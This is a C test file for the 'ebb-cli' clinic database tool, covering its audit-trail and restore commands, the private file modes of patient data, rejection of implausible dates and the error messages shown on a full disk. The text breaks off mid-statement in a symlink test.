/* test-trust-cli.c — `ebb-cli audit` and `ebb-cli restore`, and the file
 * modes of everything the command line writes
 *
 * Copyright 2026 The Ebb authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * ebb-cli runs as a subprocess, as scripts run it, under a umask of 0 so
 * that the modes asserted are Ebb's own.
 */
#include "config.h"

#include <errno.h>
#include <signal.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <unistd.h>

#include <glib/gstdio.h>

#include "ebb-csv.h"
#include "trust-test-utils.h"

typedef struct
{
  char     *dir;
  char     *db;
  char     *mounted;  /* a small file system mounted for the test, or NULL */
  TrustRun  run;
} Fixture;

static void
fixture_set_up (Fixture       *fixture,
                gconstpointer  data)
{
  fixture->dir = trust_make_tmp_dir ("test-trust-cli");
  fixture->db = g_build_filename (fixture->dir, "clinic.db", NULL);
}

static void
fixture_tear_down (Fixture       *fixture,
                   gconstpointer  data)
{
  if (fixture->mounted != NULL)
    {
      g_assert_cmpint (umount2 (fixture->mounted, MNT_DETACH), ==, 0);
      g_free (fixture->mounted);
    }
  ebb_test_remove_tree (fixture->dir);
  g_free (fixture->dir);
  g_free (fixture->db);
  trust_run_clear (&fixture->run);
}

/* Runs ebb-cli on @db; a crash is never an acceptable end. */
static int
run_cli_v (Fixture            *fixture,
           const char         *db,
           const char * const *args)
{
  trust_run_cli (&fixture->run, fixture->dir, NULL, -1, -1, db, args);
  g_assert_cmpint (fixture->run.signal, ==, 0);
  return fixture->run.status;
}

#define run_cli(fixture, db, ...) \
  run_cli_v ((fixture), (db), (const char * const[]) { __VA_ARGS__, NULL })

static guint
count_lines (const char *text)
{
  guint n = 0;

  for (const char *p = text; *p != '\0'; p++)
    n += *p == '\n';
  return n;
}

/* The line of @text that contains @needle, or NULL. */
static char *
find_line (const char *text,
           const char *needle)
{
  g_auto(GStrv) lines = g_strsplit (text, "\n", -1);

  for (guint i = 0; lines[i] != NULL; i++)
    {
      if (strstr (lines[i], needle) != NULL)
        return g_strdup (lines[i]);
    }
  return NULL;
}

/* Two patients with a session and a rating each, then an update, a code
 * change and a deletion: 2 + 2 + 2 + 1 + 1 + 2 audit rows. */
static void
make_history (Fixture *fixture)
{
  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
  g_autoptr(GError) error = NULL;
  g_autoptr(EbbPatient) ada = NULL;
  gint64 ada_id = trust_add_patient (store, "K-0001", "Ada", NULL);
  gint64 ben_id = trust_add_patient (store, "K-0002", "Ben", "allergic to nothing");
  gint64 rating_id;

  trust_add_session (store, ada_id, "2026-01-05T09:00", NULL);
  trust_add_session (store, ben_id, "2026-01-06T09:00", NULL);
  rating_id = trust_add_rating (store, ada_id, "2026-01-05", 30, "before the session");
  trust_add_rating (store, ben_id, "2026-01-06", 25, NULL);

  ada = ebb_store_get_patient (store, ada_id, &error);
  g_assert_no_error (error);
  g_free (ada->name);
  ada->name = g_strdup ("Ada Lovelace");
  g_assert_true (ebb_store_update_patient (store, ada, &error));
  g_assert_no_error (error);
  g_free (ada->code);
  ada->code = g_strdup ("K-0009");
  g_assert_true (ebb_store_update_patient (store, ada, &error));
  g_assert_no_error (error);

  g_assert_true (ebb_store_delete_rating (store, rating_id, &error));
  g_assert_no_error (error);
  /* Ben, with his session and rating. */
  g_assert_true (ebb_store_delete_patient (store, ben_id, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (trust_count (store, "audit"), ==, 12);
}

/* audit */

static void
test_audit_text (Fixture       *fixture,
                 gconstpointer  data)
{
  g_autofree char *update = NULL;
  g_autofree char *rename = NULL;
  g_autofree char *deleted = NULL;
  g_autofree char *inserted = NULL;

  make_history (fixture);
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit"), ==, 0);
  g_assert_cmpstr (fixture->run.err, ==, "");
  g_assert_true (g_str_has_prefix (fixture->run.out, "When "));
  g_assert_nonnull (strstr (fixture->run.out, "  Action  Table    Row  Patient  Change\n"));
  g_assert_cmpuint (count_lines (fixture->run.out), ==, 1 + 12);

  /* An update shows only what changed, before → after. */
  update = find_line (fixture->run.out, "name: Ada → “Ada Lovelace”");
  g_assert_nonnull (update);
  g_assert_nonnull (strstr (update, "  update  patient  1    K-0001   "));
  rename = find_line (fixture->run.out, "code: K-0001 → K-0009");
  g_assert_nonnull (rename);
  g_assert_null (strstr (rename, "name:"));

  /* An insert or a delete shows the row, without its ids. */
  inserted = find_line (fixture->run.out, "insert  rating");
  g_assert_nonnull (inserted);
  g_assert_nonnull (strstr (inserted, "at=2026-01-05, scale=MADRS, total=30, note=“before the session”"));
  g_assert_null (strstr (inserted, "patient_id"));
  deleted = find_line (fixture->run.out, "delete  patient");
  g_assert_nonnull (deleted);
  g_assert_nonnull (strstr (deleted, "K-0002"));
  g_assert_nonnull (strstr (deleted, "notes=“allergic to nothing”"));
  g_assert_true (g_regex_match_simple ("^20[0-9]{2}-[0-9]{2}-[0-9]{2}T[0-9:]{8}Z  ", deleted, 0, 0));
}

static void
test_audit_patient (Fixture       *fixture,
                    gconstpointer  data)
{
  make_history (fixture);

  /* Ada, under her code of now: also what was done under her old one. */
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "K-0009"), ==, 0);
  g_assert_cmpuint (count_lines (fixture->run.out), ==, 1 + 6);
  g_assert_nonnull (strstr (fixture->run.out, "insert  patient  1    K-0001"));
  g_assert_null (strstr (fixture->run.out, "K-0002"));

  /* Her old code: no patient has it now, but the trail remembers. */
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "K-0001"), ==, 0);
  g_assert_cmpuint (count_lines (fixture->run.out), ==, 1 + 4);

  /* Ben was deleted: his trail outlives him. */
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "K-0002"), ==, 0);
  g_assert_cmpuint (count_lines (fixture->run.out), ==, 1 + 6);
  g_assert_nonnull (strstr (fixture->run.out, "delete  session"));
  g_assert_nonnull (strstr (fixture->run.out, "delete  rating"));
  g_assert_nonnull (strstr (fixture->run.out, "delete  patient"));

  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "K-0404"), ==, 1);
  g_assert_cmpstr (fixture->run.out, ==, "");
  g_assert_nonnull (strstr (fixture->run.err, "ebb-cli audit: "));
  g_assert_nonnull (strstr (fixture->run.err, "K-0404"));
}

static void
test_audit_csv (Fixture       *fixture,
                gconstpointer  data)
{
  g_autoptr(EbbCsvReader) reader = NULL;
  g_autoptr(GPtrArray) fields = NULL;
  g_autoptr(GPtrArray) entries = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(EbbStore) store = NULL;
  guint n = 0;

  make_history (fixture);
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "--format", "csv"), ==, 0);

  store = ebb_store_open (fixture->db, EBB_STORE_OPEN_READ_ONLY, &error);
  g_assert_no_error (error);
  entries = ebb_store_list_audit (store, 0, &error);
  g_assert_no_error (error);

  /* Exactly what the store holds, JSON and all. */
  reader = ebb_csv_reader_new (fixture->run.out, strlen (fixture->run.out));
  g_assert_true (ebb_csv_reader_next (reader, &fields, NULL, &error));
  g_assert_cmpuint (fields->len, ==, 7);
  g_assert_cmpstr (g_ptr_array_index (fields, 0), ==, "at");
  g_assert_cmpstr (g_ptr_array_index (fields, 6), ==, "after");
  g_clear_pointer (&fields, g_ptr_array_unref);
  while (ebb_csv_reader_next (reader, &fields, NULL, &error))
    {
      const EbbAuditEntry *entry = g_ptr_array_index (entries, n);
      g_autofree char *row = g_strdup_printf ("%" G_GINT64_FORMAT, entry->row_id);

      g_assert_cmpuint (fields->len, ==, 7);
      g_assert_cmpstr (g_ptr_array_index (fields, 0), ==, entry->at);
      g_assert_cmpstr (g_ptr_array_index (fields, 1), ==, entry->action);
      g_assert_cmpstr (g_ptr_array_index (fields, 2), ==, entry->table_name);
      g_assert_cmpstr (g_ptr_array_index (fields, 3), ==, row);
      g_assert_cmpstr (g_ptr_array_index (fields, 4), ==, entry->patient_code);
      g_assert_cmpstr (g_ptr_array_index (fields, 5), ==, entry->before ? entry->before : "");
      g_assert_cmpstr (g_ptr_array_index (fields, 6), ==, entry->after ? entry->after : "");
      g_clear_pointer (&fields, g_ptr_array_unref);
      n++;
    }
  g_assert_no_error (error);
  g_assert_cmpuint (n, ==, entries->len);
}

static void
test_audit_empty_and_usage (Fixture       *fixture,
                            gconstpointer  data)
{
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;

  g_assert_cmpint (run_cli (fixture, fixture->db, "audit"), ==, 1);
  g_assert_nonnull (strstr (fixture->run.err, fixture->db));
  g_assert_nonnull (strstr (fixture->run.err, "To create it"));
  g_assert_false (trust_exists (fixture->db));

  g_assert_cmpint (run_cli (fixture, fixture->db, "init"), ==, 0);
  before = trust_read_bytes (fixture->db);
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit"), ==, 0);
  g_assert_cmpstr (fixture->run.out, ==, "No changes recorded yet.\n");
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "--format", "csv"), ==, 0);
  g_assert_cmpstr (fixture->run.out, ==, "at,action,table,row,patient,before,after\n");
  after = trust_read_bytes (fixture->db);
  g_assert_true (g_bytes_equal (before, after));

  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "K-1", "K-2"), ==, 2);
  g_assert_nonnull (strstr (fixture->run.err, "at most one PATIENT"));
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "--format", "xml"), ==, 2);
  g_assert_nonnull (strstr (fixture->run.err, "unknown format 'xml'"));
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "--help"), ==, 0);
  g_assert_nonnull (strstr (fixture->run.out, "ebb-cli audit [OPTION…] [PATIENT]"));
}

/* Rows written into the trail behind Ebb's back (the trail only refuses
 * changes, not additions): shown as they are, never crashing, never
 * breaking the table's lines. */
static void
test_audit_odd_rows (Fixture       *fixture,
                     gconstpointer  data)
{
  g_autofree char *odd = NULL;

  make_history (fixture);
  trust_sql_exec (fixture->db,
                  "INSERT INTO audit (at, action, table_name, row_id, patient_id, patient_code,"
                  " \"before\", \"after\") VALUES"
                  " ('2026-02-01T00:00:00Z', 'update', 'patient', 7, 7, 'K-0007',"
                  "  '{\"name\":\"A\\u0000\"}', '{not json'),"
                  " ('2026-02-01T00:00:00Z', 'insert', 'patient', 8, 8, 'K-' || char (10) || '0008',"
                  "  NULL, '{\"name\":\"line' || char (10) || 'break\\ttab\",\"n\":[1]}'),"
                  " ('2026-02-01T00:00:00Z', 'delete', 'score', 9, 9, CAST (x'4bff' AS TEXT),"
                  "  CAST (x'7b22223a22ff227d' AS TEXT), NULL),"
                  " ('2026-02-01T00:00:00Z', 'update', 'score', 10, 10, 'K-0010',"
                  "  '{\"total\":3,\"note\":\"old\"}', '{\"total\":4,\"note\":null,\"extra\":\"x\"}'),"
                  " ('2026-02-01T00:00:00Z', 'update', 'score', 11, 11, 'K-0011',"
                  "  '{\"note\":\"\\ud83d\"}', '{\"note\":\"\\u00e9\\n\"}');");

  g_assert_cmpint (run_cli (fixture, fixture->db, "audit"), ==, 0);
  g_assert_true (g_utf8_validate (fixture->run.out, -1, NULL));
  g_assert_cmpuint (count_lines (fixture->run.out), ==, 1 + 12 + 5);
  g_assert_null (strchr (fixture->run.out, '\t'));
  g_assert_null (strchr (fixture->run.out, '\r'));

  odd = find_line (fixture->run.out, "{not json");
  g_assert_nonnull (odd);
  g_clear_pointer (&odd, g_free);
  odd = find_line (fixture->run.out, "K- 0008");
  g_assert_nonnull (odd);
  g_assert_nonnull (strstr (odd, "line break"));
  g_clear_pointer (&odd, g_free);
  odd = find_line (fixture->run.out, "K-0010");
  g_assert_nonnull (odd);
  g_assert_nonnull (strstr (odd, "total: 3 → 4; note: old → (none); extra: (none) → x"));
  g_clear_pointer (&odd, g_free);
  odd = find_line (fixture->run.out, "K-0011");
  g_assert_nonnull (odd);
  g_assert_nonnull (strstr (odd, "{\"note\":\"\\ud83d\"} → {\"note\":\"\\u00e9\\n\"}"));

  /* The csv format gives them byte for byte (as far as CSV can). */
  g_assert_cmpint (run_cli (fixture, fixture->db, "audit", "--format", "csv", "K-0007"), ==, 0);
  g_assert_nonnull (strstr (fixture->run.out, "{not json"));
}

/* restore */

static void
test_restore (Fixture       *fixture,
              gconstpointer  data)
{
  g_autofree char *backup = g_build_filename (fixture->dir, "monday.db", NULL);
  g_autofree char *csv = g_build_filename (fixture->dir, "more.csv", NULL);
  g_autofree char *expected = NULL;
  g_autofree char *aside = NULL;
  const char *kept;

  make_history (fixture);
  g_assert_cmpint (run_cli (fixture, fixture->db, "backup", backup), ==, 0);
  g_assert_cmpuint (trust_file_mode (backup), ==, 0600);
  trust_write_bytes (csv, "patient,name\nK-0100,Cleo\n", 25);
  g_assert_cmpint (run_cli (fixture, fixture->db, "import", csv), ==, 0);
  g_assert_cmpint (run_cli (fixture, fixture->db, "patients"), ==, 0);
  g_assert_nonnull (strstr (fixture->run.out, "K-0100"));

  g_assert_cmpint (run_cli (fixture, fixture->db, "restore", backup), ==, 0);
  g_assert_cmpstr (fixture->run.err, ==, "");
  expected = g_strdup_printf ("Restored %s into %s\nThe database it replaced is kept as %s.before-restore-",
                              backup, fixture->db, fixture->db);
  g_assert_true (g_str_has_prefix (fixture->run.out, expected));
  kept = strstr (fixture->run.out, "kept as ") + strlen ("kept as ");
  aside = g_strndup (kept, strcspn (kept, "\n"));
  g_assert_cmpuint (trust_file_mode (fixture->db), ==, 0600);

  g_assert_cmpint (run_cli (fixture, fixture->db, "patients"), ==, 0);
  g_assert_null (strstr (fixture->run.out, "K-0100"));
  g_assert_nonnull (strstr (fixture->run.out, "K-0009"));
  g_assert_cmpint (run_cli (fixture, fixture->db, "check"), ==, 0);

  /* Nothing was lost: the replaced clinic opens as it was. */
  g_assert_cmpint (run_cli (fixture, aside, "patients"), ==, 0);
  g_assert_nonnull (strstr (fixture->run.out, "K-0100"));
}

static void
test_restore_refused (Fixture       *fixture,
                      gconstpointer  data)
{
  g_autofree char *garbage = g_build_filename (fixture->dir, "garbage.db", NULL);
  g_autofree char *missing = g_build_filename (fixture->dir, "missing.db", NULL);
  g_autoptr(GBytes) before = NULL;
  g_autoptr(GBytes) after = NULL;

  make_history (fixture);
  before = trust_read_bytes (fixture->db);
  trust_write_bytes (garbage, "this is not a clinic", 20);

  g_assert_cmpint (run_cli (fixture, fixture->db, "restore", garbage), ==, 1);
  g_assert_cmpstr (fixture->run.out, ==, "");
  g_assert_true (g_str_has_prefix (fixture->run.err, "ebb-cli restore: Nothing was restored: "));
  g_assert_nonnull (strstr (fixture->run.err, garbage));

  g_assert_cmpint (run_cli (fixture, fixture->db, "restore", missing), ==, 1);
  g_assert_nonnull (strstr (fixture->run.err, missing));

  g_assert_cmpint (run_cli (fixture, fixture->db, "restore", fixture->db), ==, 1);
  g_assert_nonnull (strstr (fixture->run.err, "is the database itself"));

  after = trust_read_bytes (fixture->db);
  g_assert_true (g_bytes_equal (before, after));

  g_assert_cmpint (run_cli (fixture, fixture->db, "restore"), ==, 2);
  g_assert_nonnull (strstr (fixture->run.err, "no backup FILE"));
  g_assert_cmpint (run_cli (fixture, fixture->db, "restore", garbage, missing), ==, 2);
  g_assert_nonnull (strstr (fixture->run.err, "one FILE"));
}

/* Privacy: every file with patient data is the user's alone. */
static void
test_file_modes (Fixture       *fixture,
                 gconstpointer  data)
{
  g_autofree char *patients = trust_example_path ("patients.csv");
  g_autofree char *imported = g_build_filename (fixture->dir, "new", "imported.db", NULL);
  g_autofree char *backup = g_build_filename (fixture->dir, "backup.db", NULL);
  g_autofree char *export_dir = g_build_filename (fixture->dir, "export", NULL);
  g_autofree char *export_file = g_build_filename (export_dir, "patients.csv", NULL);
  g_autofree char *restored = g_build_filename (fixture->dir, "restored", "clinic.db", NULL);

  g_assert_cmpint (run_cli (fixture, fixture->db, "init"), ==, 0);
  g_assert_cmpuint (trust_file_mode (fixture->db), ==, 0600);

  g_assert_cmpint (run_cli (fixture, imported, "import", patients), ==, 0);
  g_assert_cmpuint (trust_file_mode (imported), ==, 0600);

  g_assert_cmpint (run_cli (fixture, imported, "backup", backup), ==, 0);
  g_assert_cmpuint (trust_file_mode (backup), ==, 0600);

  g_assert_cmpint (run_cli (fixture, imported, "export-csv", export_dir), ==, 0);
  g_assert_cmpuint (trust_file_mode (export_dir), ==, 0700);
  g_assert_cmpuint (trust_file_mode (export_file), ==, 0600);

  g_assert_cmpint (run_cli (fixture, restored, "restore", backup), ==, 0);
  g_assert_cmpuint (trust_file_mode (restored), ==, 0600);
}

/* Issue 15: what comes in, and what goes out ------------------------------- */

/* Far longer than any command here takes (well under a second): the limit
 * only turns a hang into a failure, with the program killed. */
#define DEADLINE_SECONDS 20

typedef struct
{
  gboolean  done;
  gboolean  late;
  char     *out;
  char     *err;
  GError   *error;
} Waiting;

static void
communicated_cb (GObject      *source,
                 GAsyncResult *result,
                 gpointer      user_data)
{
  Waiting *waiting = user_data;

  g_subprocess_communicate_utf8_finish (G_SUBPROCESS (source), result,
                                        &waiting->out, &waiting->err, &waiting->error);
  waiting->done = TRUE;
}

static gboolean
deadline_passed_cb (gpointer user_data)
{
  Waiting *waiting = user_data;

  waiting->late = TRUE;
  return G_SOURCE_REMOVE;
}

/* Runs ebb-cli as run_cli() does, in @fixture->dir, but kills it if it has
 * not finished after DEADLINE_SECONDS, and fails the test then; @setup, if
 * given, runs in the child before exec, and @stdout_path, if given, is
 * where its output goes instead of fixture->run.out. */
static int
run_limited_full (Fixture              *fixture,
                  const char           *db,
                  GSpawnChildSetupFunc  setup,
                  const char           *stdout_path,
                  const char * const   *args)
{
  g_autoptr(GSubprocessLauncher) launcher = NULL;
  g_autoptr(GSubprocess) process = NULL;
  g_autoptr(GPtrArray) argv = g_ptr_array_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *xdg_data = g_build_filename (fixture->dir, "xdg-data", NULL);
  Waiting waiting = { FALSE, FALSE, NULL, NULL, NULL };
  guint deadline;

  g_ptr_array_add (argv, (char *) trust_cli_path ());
  if (db != NULL)
    {
      g_ptr_array_add (argv, (char *) "--db");
      g_ptr_array_add (argv, (char *) db);
    }
  for (guint i = 0; args[i] != NULL; i++)
    g_ptr_array_add (argv, (char *) args[i]);
  g_ptr_array_add (argv, NULL);

  launcher = g_subprocess_launcher_new (G_SUBPROCESS_FLAGS_STDERR_PIPE |
                                        (stdout_path == NULL ? G_SUBPROCESS_FLAGS_STDOUT_PIPE : 0));
  if (stdout_path != NULL)
    g_subprocess_launcher_set_stdout_file_path (launcher, stdout_path);
  g_subprocess_launcher_set_cwd (launcher, fixture->dir);
  g_subprocess_launcher_setenv (launcher, "XDG_DATA_HOME", xdg_data, TRUE);
  if (setup != NULL)
    g_subprocess_launcher_set_child_setup (launcher, setup, NULL, NULL);
  process = g_subprocess_launcher_spawnv (launcher, (const char * const *) argv->pdata, &error);
  g_assert_no_error (error);

  g_subprocess_communicate_utf8_async (process, NULL, NULL, communicated_cb, &waiting);
  deadline = g_timeout_add_seconds (DEADLINE_SECONDS, deadline_passed_cb, &waiting);
  while (!waiting.done && !waiting.late)
    g_main_context_iteration (NULL, TRUE);
  if (waiting.done)
    g_source_remove (deadline);
  else
    {
      g_subprocess_force_exit (process);
      while (!waiting.done)
        g_main_context_iteration (NULL, TRUE);
    }
  if (waiting.late)
    g_test_message ("ebb-cli %s did not finish in %d s and was killed", args[0], DEADLINE_SECONDS);
  g_assert_false (waiting.late);
  g_assert_no_error (waiting.error);

  trust_run_clear (&fixture->run);
  fixture->run.out = waiting.out != NULL ? waiting.out : g_strdup ("");
  fixture->run.err = waiting.err;
  if (g_subprocess_get_if_exited (process))
    {
      fixture->run.status = g_subprocess_get_exit_status (process);
      fixture->run.signal = 0;
    }
  else
    {
      fixture->run.status = -1;
      fixture->run.signal = g_subprocess_get_term_sig (process);
    }
  return fixture->run.status;
}

static int
run_limited_v (Fixture              *fixture,
               const char           *db,
               GSpawnChildSetupFunc  setup,
               const char * const   *args)
{
  return run_limited_full (fixture, db, setup, NULL, args);
}

#define run_limited(fixture, db, ...) \
  run_limited_v ((fixture), (db), NULL, (const char * const[]) { __VA_ARGS__, NULL })

static char *
fixture_path (Fixture    *fixture,
              const char *name)
{
  return g_build_filename (fixture->dir, name, NULL);
}

static void
write_text (Fixture    *fixture,
            const char *name,
            const char *text)
{
  g_autofree char *path = fixture_path (fixture, name);

  trust_write_bytes (path, text, strlen (text));
}

static gboolean
has_png_signature (const char *path)
{
  g_autoptr(GBytes) bytes = trust_read_bytes (path);
  gsize length;
  const char *data = g_bytes_get_data (bytes, &length);

  return length > 8 && memcmp (data, "\x89PNG\r\n\x1a\n", 8) == 0;
}

static int
compare_names (gconstpointer a,
               gconstpointer b)
{
  return strcmp (*(const char * const *) a, *(const char * const *) b);
}

/* The files in @dir but the clinic's, sorted, in one string:
 * "chart.png notes.png". */
static char *
list_dir (const char *dir)
{
  g_autoptr(GDir) handle = g_dir_open (dir, 0, NULL);
  g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
  const char *name;

  g_assert_nonnull (handle);
  while ((name = g_dir_read_name (handle)) != NULL)
    {
      if (!g_str_has_prefix (name, "clinic.db"))
        g_ptr_array_add (names, g_strdup (name));
    }
  g_ptr_array_sort (names, compare_names);
  g_ptr_array_add (names, NULL);
  return g_strjoinv (" ", (char **) names->pdata);
}

/* A patient P9 with two MADRS ratings and a done session in 2025, and a
 * session booked on 2025-11-08; returns the booked session's id. */
static gint64
make_p9 (Fixture *fixture)
{
  g_autoptr(EbbStore) store = trust_open_new_store (fixture->db);
  g_autoptr(EbbSession) booked = ebb_session_new ();
  g_autoptr(GError) error = NULL;
  gint64 id = trust_add_patient (store, "P9", "Pat Nine", NULL);

  trust_add_rating (store, id, "2025-10-01", 30, NULL);
  trust_add_session (store, id, "2025-10-01T10:00", NULL);
  trust_add_rating (store, id, "2025-10-20", 20, NULL);
  booked->patient_id = id;
  booked->when_text = g_strdup ("2025-11-08");
  booked->status = EBB_SESSION_SCHEDULED;
  booked->phase = EBB_PHASE_MAINTENANCE;
  booked->route = EBB_ROUTE_IV;
  g_assert_true (ebb_store_add_session (store, booked, &error));
  g_assert_no_error (error);
  return booked->id;
}

/* #1: "P9,9995-11-08,scheduled,induction,iv", a typo for 2025, and
 * `--to 9990-12-31` hung chart, report and the window.  Every entry point
 * refuses a date outside 1900–2199 now, with the same words. */
static void
test_dates_far_future_refused (Fixture       *fixture,
                               gconstpointer  data)
{
  const char *plausible = "is not a plausible date: use a year from 1900 to 2199";
  g_autofree char *sessions = fixture_path (fixture, "sessions.csv");
  g_autofree char *chart = fixture_path (fixture, "chart.png");
  g_autofree char *record = fixture_path (fixture, "record.pdf");
  g_autofree char *expected = NULL;

  make_p9 (fixture);
  write_text (fixture, "sessions.csv",
              "patient,date,status,phase,route\n"
              "P9,9995-11-08,scheduled,induction,iv\n");
  g_assert_cmpint (run_limited (fixture, fixture->db, "import", sessions), ==, 1);
  expected = g_strdup_printf ("%s:2: date: “9995-11-08” %s\n", sessions, plausible);
  g_assert_true (g_str_has_prefix (fixture->run.err, expected));
  g_assert_cmpint (trust_sql_int (fixture->db, "SELECT count(*) FROM session"), ==, 2);

  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "--to", "9990-12-31",
                                "-o", chart), ==, 2);
  g_assert_cmpstr (fixture->run.err, ==,
                   "ebb-cli chart: --to: “9990-12-31” is not a plausible date: use a year from 1900 to 2199\n");
  g_assert_false (trust_exists (chart));
  g_assert_cmpint (run_limited (fixture, fixture->db, "report", "P9", "--from", "0001-01-01",
                                "-o", "report.pdf"), ==, 2);
  g_assert_cmpstr (fixture->run.err, ==,
                   "ebb-cli report: --from: “0001-01-01” is not a plausible date: use a year from 1900 to 2199\n");
  g_assert_cmpint (run_limited (fixture, fixture->db, "flags", "--as-of", "2200-01-01"), ==, 2);
  g_assert_cmpstr (fixture->run.err, ==,
                   "ebb-cli flags: --as-of: “2200-01-01” is not a plausible date: use a year from 1900 to 2199\n");
  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "P9", "--as-of", "1899-12-31"), ==, 2);
  g_assert_cmpint (run_limited (fixture, fixture->db, "session-record", "P9", "9995-11-08",
                                "-o", record), ==, 2);
  g_assert_cmpstr (fixture->run.err, ==,
                   "ebb-cli session-record: “9995-11-08” is not a plausible date: use a year from 1900 to 2199\n");
  g_assert_false (trust_exists (record));

  /* The first and last days of the range are dates like any other. */
  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "--from", "1900-01-01",
                                "--to", "2199-12-31", "-o", chart), ==, 0);
  g_assert_true (has_png_signature (chart));
}

/* #1: a clinic file written before dates were checked, with a session in
 * 9995: the chart's axis spans eight thousand years, and its tick loop
 * must still end (it never did: the calendar ends in 9999). */
static void
test_dates_far_future_stored (Fixture       *fixture,
                              gconstpointer  data)
{
  g_autofree char *sql = NULL;
  g_autofree char *chart = fixture_path (fixture, "chart.png");
  g_autofree char *pdf = fixture_path (fixture, "chart.pdf");
  g_autofree char *report = fixture_path (fixture, "report.pdf");
  gint64 booked = make_p9 (fixture);

  sql = g_strdup_printf ("UPDATE session SET when_text = '9995-11-08', day = %d WHERE id = %" G_GINT64_FORMAT,
                         ebb_date_from_ymd (9995, 11, 8), booked);
  trust_sql_exec (fixture->db, sql);

  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "-o", chart), ==, 0);
  g_assert_true (has_png_signature (chart));
  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "--width", "60mm", "-o", pdf), ==, 0);
  g_assert_cmpint (run_limited (fixture, fixture->db, "report", "P9", "-o", report), ==, 0);
  g_assert_true (trust_exists (report));
  g_assert_cmpint (run_limited (fixture, fixture->db, "summary", "P9"), ==, 0);
  g_assert_nonnull (strstr (fixture->run.out, "Next session  9995-11-08"));
  g_assert_null (strstr (fixture->run.err, "CRITICAL"));
}

/* A small file system of its own, where the disk can be filled; NULL
 * (and the test skipped) where this process may not mount one. */
static char *
mount_small_disk (Fixture    *fixture,
                  const char *size)
{
  g_autofree char *options = g_strdup_printf ("size=%s,mode=0700", size);
  char *disk = fixture_path (fixture, "small-disk");

  g_assert_cmpint (g_mkdir (disk, 0700), ==, 0);
  if (mount ("tmpfs", disk, "tmpfs", MS_NOSUID | MS_NODEV, options) != 0)
    {
      g_autofree char *message = g_strdup_printf ("cannot mount a small tmpfs: %s", g_strerror (errno));

      g_test_skip (message);
      g_rmdir (disk);
      g_free (disk);
      return NULL;
    }
  fixture->mounted = g_strdup (disk);
  return disk;
}

/* Fills @disk until @left bytes are free. */
static void
fill_disk (const char *disk,
           guint64     left)
{
  g_autofree char *path = g_build_filename (disk, "fill", NULL);
  struct statvfs st;
  guint64 free_bytes;
  g_autofree char *zeros = NULL;

  g_assert_cmpint (statvfs (disk, &st), ==, 0);
  free_bytes = (guint64) st.f_bavail * st.f_frsize;
  g_assert_cmpuint (free_bytes, >, left);
  zeros = g_malloc0 (free_bytes - left);
  trust_write_bytes (path, zeros, free_bytes - left);
}

/* #5: a PDF written to a full disk said nothing, exited 0 and left a
 * truncated file over the chart that was there. */
static void
test_output_pdf_full_disk (Fixture       *fixture,
                           gconstpointer  data)
{
  g_autofree char *disk = NULL;
  g_autofree char *sized = fixture_path (fixture, "sized.pdf");
  g_autofree char *chart = NULL;
  g_autofree char *expected = NULL;
  g_autofree char *listing = NULL;
  g_autoptr(GBytes) kept = NULL;
  GStatBuf st;

  make_p9 (fixture);
  /* How big the chart is, on a disk with room. */
  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "-o", sized), ==, 0);
  g_assert_cmpint (g_stat (sized, &st), ==, 0);
  g_assert_cmpint (st.st_size, >, 8192);

  disk = mount_small_disk (fixture, "256k");
  if (disk == NULL)
    return;
  chart = g_build_filename (disk, "chart.pdf", NULL);
  write_text (fixture, "small-disk/chart.pdf", "the chart that was there\n");
  /* Room for half the chart: the write fails half way, after cairo has
   * written several buffers of it. */
  fill_disk (disk, st.st_size / 2);

  g_assert_cmpint (run_limited (fixture, fixture->db, "chart", "P9", "--force", "-o", chart), ==, 1);
  expected = g_strdup_printf ("ebb-cli chart: %s: writing failed: the disk is full. "
                              "Free some space and try again\n", chart);
  g_assert_cmpstr (fixture->run.err, ==, expected);
  kept = trust_read_bytes (chart);
  g_assert_cmpmem (g_bytes_get_data (kept, NULL), g_bytes_get_size (kept),
                   "the chart that was there\n", 25);
  listing = list_dir (disk);
  g_assert_cmpstr (listing, ==, "chart.pdf fill");
}

/* #11: a full disk kept SQLite from making the -shm file, and `check`
 * said "disk I/O error: check the disk". */
static void
test_messages_full_disk (Fixture       *fixture,
                         gconstpointer  data)
{
  g_autofree char *disk = NULL;
  g_autofree char *db = NULL;
  g_autofree char *expected = NULL;

  make_p9 (fixture);
  disk = mount_small_disk (fixture, "1m");
  if (disk == NULL)
    return;
  db = g_build_filename (disk, "clinic.db", NULL);
  trust_copy_file (fixture->db, db);
  fill_disk (disk, 0);

  expected = g_strdup_printf ("ebb-cli check: There is no space left on the disk that holds “%s”: "
                              "free some space and try again\n", db);
  g_assert_cmpint (run_limited (fixture, db, "check"), ==, 1);
  g_assert_cmpstr (fixture->run.err, ==, expected);
}

/* #11: --db naming a link to a file that does not exist said "could not
 * be created (File exists)". */
static void
test_messages_dangling_link (Fixture       *fixture,
                             gconstpointer  data)
{
  g_autofree char *link = fixture_path (fixture, "clinic-link.db");
  g_autofree char *target = fixture_path (fixture, "gone/clinic.db");
  g_autofree char *expected = NULL;

  g_assert_cmpint (symlink (target, link), ==, 0);
  expected = g_strdup_printf ("“%s” is a link to “%s”, which does not exist: point the link at "
